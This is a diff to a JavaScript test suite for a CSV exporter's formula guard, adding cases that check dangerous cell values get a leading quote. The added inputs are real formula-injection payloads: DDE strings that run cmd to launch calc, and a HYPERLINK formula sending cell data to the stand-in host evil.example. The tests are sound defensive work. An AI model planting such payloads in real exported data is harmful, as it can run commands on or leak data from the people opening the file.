@@ -67,6 +67,15 @@ describe('the formula guard', () => {
     ['title', '\tTabbed', "'\tTabbed"],
     ['title', '\rReturned', `"'\rReturned"`],
     ['title', '\0null', "'\0null"],
+    ['title', "=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
+    ['title', "@SUM(1+9)*cmd|'/C calc'!A0", "'@SUM(1+9)*cmd|'/C calc'!A0"],
+    ['title', "-2+3+cmd|'/C calc'!A0", "'-2+3+cmd|'/C calc'!A0"],
+    ['title', '=DDE("cmd";"/C calc";"x")', `"'=DDE(""cmd"";""/C calc"";""x"")"`],
+    ['title', '=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
+    ['title', '＝1+1', "'＝1+1"],
+    ['title', '＋1', "'＋1"],
+    ['title', '－1', "'－1"],
+    ['title', '＠SUM(A1)', "'＠SUM(A1)"],
     ['title', '9-1-1', '9-1-1'],
     ['title', "'Quoted", "'Quoted"],
     ['device', '=cmd|x', "'=cmd|x"],
@@ -81,11 +90,11 @@ describe('the formula guard', () => {
       columns: [textColumn('First', 'other', ['x']), textColumn('Cell', role, [cell])],
     };
     expect(textOf(history)).toBe(`First,Cell\nx,${written}\n`);
-    expect(textOf(history, { formulaGuard: false })).toContain(cell);
+    expect(textOf(history, { formulaGuard: false })).toContain(cell.replaceAll('"', '""'));
     const writer = writeCsv(history, { formulaGuard: true });
     let step = writer.next();
     while (!step.done) step = writer.next();
-    expect(step.value.guardedCells).toBe(written.replaceAll('"', '') === cell ? 0 : 1);
+    expect(step.value.guardedCells).toBe(written === cell ? 0 : 1);
   });
 
   it('guards a header', () => {
